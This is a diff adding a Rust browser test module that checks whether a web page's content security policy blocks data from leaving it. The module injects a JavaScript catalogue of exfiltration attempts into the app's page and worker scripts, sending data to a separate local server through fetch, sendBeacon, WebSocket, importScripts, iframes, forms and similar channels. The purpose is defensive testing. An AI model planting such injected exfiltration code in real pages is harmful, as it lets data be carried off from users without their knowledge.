@@ -1,0 +1,114 @@
+//! What the page's policy forbids, tried by code in the page and in its worker.
+
+use std::fs;
+use std::time::Duration;
+
+use super::expect;
+use crate::Outcome;
+use crate::page::Browser;
+use crate::server::{Server, product};
+
+/// Tries everything that could carry bytes away, each to an address of its own.
+const ATTEMPTS: &str = r#"
+const attempts = {
+  fetch: (url) => fetch(url, { method: "POST", mode: "no-cors", body: "bytes" }),
+  keepalive: (url) => fetch(url, { mode: "no-cors", keepalive: true }),
+  xhr: (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); },
+  websocket: (url) => new WebSocket(url.replace("http", "ws")),
+  eventsource: (url) => new EventSource(url),
+  beacon: (url) => navigator.sendBeacon(url, "bytes"),
+  importscripts: (url) => importScripts(url),
+  import: (url) => import(url),
+  worker: (url) => new Worker(url),
+  image: (url) => { new Image().src = url; },
+  script: (url) => add("script", { src: url }),
+  style: (url) => add("link", { rel: "stylesheet", href: url }),
+  prefetch: (url) => add("link", { rel: "prefetch", href: url }),
+  frame: (url) => add("iframe", { src: url }),
+  video: (url) => add("video", { src: url }),
+  object: (url) => add("object", { data: url }),
+  form: (url) => {
+    add("iframe", { name: "target" });
+    add("form", { action: url, method: "post", target: "target" }).submit();
+  },
+};
+const add = (name, attributes) =>
+  document.body.appendChild(Object.assign(document.createElement(name), attributes));
+for (const [name, attempt] of Object.entries(attempts)) {
+  try { Promise.resolve(attempt("ELSEWHERE" + place + "/" + name)).catch(() => {}); } catch {}
+}
+"#;
+
+/// What works in a page that nothing forbids it, in every engine.
+const IN_A_PAGE: [&str; 8] = [
+    "fetch",
+    "xhr",
+    "websocket",
+    "eventsource",
+    "beacon",
+    "image",
+    "frame",
+    "form",
+];
+
+/// The same in a worker.
+const IN_A_WORKER: [&str; 4] = ["fetch", "xhr", "websocket", "importscripts"];
+
+pub async fn nothing_gets_out(browser: &Browser) -> Outcome {
+    let elsewhere = Server::start("/")?;
+    attack(browser, &elsewhere)?;
+    browser.open_page().await?;
+    browser.press("#example").await?;
+    browser.finished().await?;
+    tokio::time::sleep(Duration::from_secs(3)).await;
+    expect("requests elsewhere", elsewhere.log(), Vec::<String>::new())
+}
+
+/// The same attack on the same page without its policy, so that the journey above is
+/// known to be able to fail.
+pub async fn without_the_policy_it_gets_out(browser: &Browser) -> Outcome {
+    let elsewhere = Server::start("/")?;
+    attack(browser, &elsewhere)?;
+    browser.server.drop_policy();
+    browser.open_page().await?;
+    browser.press("#example").await?;
+    browser.finished().await?;
+    let expected = |place: &'static str, names: &[&'static str]| -> Vec<String> {
+        names
+            .iter()
+            .map(|name| format!("/{place}/{name}"))
+            .collect()
+    };
+    let expected = [
+        expected("page", &IN_A_PAGE),
+        expected("worker", &IN_A_WORKER),
+    ]
+    .concat();
+    browser
+        .wait_until("the attacks get out", Duration::from_secs(20), async || {
+            let log = elsewhere.log();
+            Ok(expected.iter().all(|path| log.contains(path)).then_some(()))
+        })
+        .await
+        .map_err(|_| format!("of {expected:?} only {:?} got out", elsewhere.log()).into())
+}
+
+/// Puts the attempts into the page's own script and into the worker's.
+fn attack(browser: &Browser, elsewhere: &Server) -> Outcome {
+    let attempts = |place: &str| {
+        let attempts = ATTEMPTS.replace("ELSEWHERE", &elsewhere.url());
+        format!("{{ const place = \"{place}\"; {attempts} }}\n")
+    };
+    for file in fs::read_dir(product())? {
+        let file = file?;
+        let name = file.file_name().to_string_lossy().into_owned();
+        let place = match name.as_str() {
+            "worker.js" => "worker",
+            name if name.starts_with("app-") && name.ends_with(".js") => "page",
+            _ => continue,
+        };
+        let script = attempts(place) + &fs::read_to_string(file.path())?;
+        browser.server.replace(&name, Some(script.into_bytes()));
+    }
+    Ok(())
+}
